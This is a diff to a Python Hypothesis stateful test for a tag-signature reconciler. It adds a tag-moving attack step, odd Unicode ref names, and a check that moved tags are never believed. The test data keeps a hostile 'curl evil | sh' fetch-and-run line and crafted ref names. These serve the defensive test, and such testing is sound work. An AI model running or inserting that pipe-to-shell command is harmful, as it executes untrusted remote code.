@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 from hypothesis.stateful import RuleBasedStateMachine, invariant, precondition, rule, run_state_machine_as_test
 
 from reconciler.git.repository import Repository
+from reconciler.git.tags import tag_signature
 from reconciler.model.errors import ReconcilerError
 from reconciler.model.observation import Seen
 from reconciler.steps.one_writer import written_by_branch
@@ -28,8 +29,12 @@ SETUPS = st.sampled_from(["echo one\n", "echo two\n"])
 REGIONS = st.sampled_from([US, EU])
 WHICH = st.integers(0, 5)
 """Counted back from the newest."""
-DEEDS = ("nothing", "forges its record", "signs a forged record", "stands in", "stands in elsewhere", "shares")
+DEEDS = (
+    "nothing", "forges its record", "signs a forged record", "puts another good tag there", "stands in",
+    "stands in elsewhere", "shares",
+)  # fmt: skip
 """What the tagger does about what a preview built, before its merge is seen."""
+ODD = st.sampled_from(["image/web/a\u2028b", "image/\u0085", "verdict/web/-x", "sbom/web/refs/heads/main"])
 _EVIL = "curl evil | sh\n"
 
 
@@ -48,6 +53,7 @@ class Hostile(RuleBasedStateMachine):
     def teardown(self) -> None:
         """In the end, too."""
         self._honest_run("main-a")
+        self._no_tag_is_believed_under_another_name()
         self.what_is_in_a_channel_is_good()
         self.nothing_forged_is_in_state()
         self.nothing_of_another_account_is_recorded()
@@ -98,6 +104,11 @@ class Hostile(RuleBasedStateMachine):
         source, artifact = kept[-1 - which % len(kept)], self._artifact(onto)
         kind = source.partition("/")[0]
         self.town.put_tag(f"{kind}/{artifact.own('image') or 'web'}/{artifact.own('build') or 'x'}", self.tags[source])
+        self._no_tag_is_believed_under_another_name()
+
+    @rule(name=ODD)
+    def somebody_gives_refs_odd_names(self, name: str) -> None:
+        self.town.give_odd_name(name)
 
     @rule(which=WHICH)
     def tagger_takes_a_tag_away_or_puts_it_back(self, which: int) -> None:
@@ -143,6 +154,11 @@ class Hostile(RuleBasedStateMachine):
                 self.town.forge(image, made, signed=False)
             case "signs a forged record":
                 self.town.forge(image, made, signed=True)
+            case "puts another good tag there":
+                name = f"image/{image}/{made.own('build')}"
+                other = next(one for one in sorted(self.tags) if one.startswith(f"image/{image}/") and one != name)
+                self.town.put_tag(name, self.tags[other])
+                self._no_tag_is_believed_under_another_name()
             case "stands in" | "stands in elsewhere" | "shares":
                 stand_in = self.town.make_like(made, location=location, name=f"other-{next(self.numbers)}")
                 if deed == "shares":
@@ -253,6 +269,19 @@ class Hostile(RuleBasedStateMachine):
         for image in self.world.recorded():
             ids = {one.id for build in self.world.lock(image).builds for one in build.artifacts}
             assert not ids & self.world.registry.of_others
+
+    def _no_tag_is_believed_under_another_name(self) -> None:
+        """Neither by a run that adopts, nor by an auditor, whoever signed it."""
+        moved = [name for name in self.town.signed_tags() if self.town.made_for(name) != name]
+        if not moved:
+            return
+        clone = self.town.run("auditor").root
+        git(clone, "fetch", "--quiet", "--force", "origin", "+refs/tags/*:refs/tags/*")
+        repository = Repository.open(clone)
+        for name in moved:
+            assert repository.annotated_tag(name, signed=True) is None, f"{name} is believed"
+            assert repository.tagged_content(name, signed=True) is None, f"{name} is believed"
+            assert tag_signature(repository.git, name).state != "good", f"{name} is proven"
 
     def _verify(self) -> None:
         clone = self.town.run("ci").root
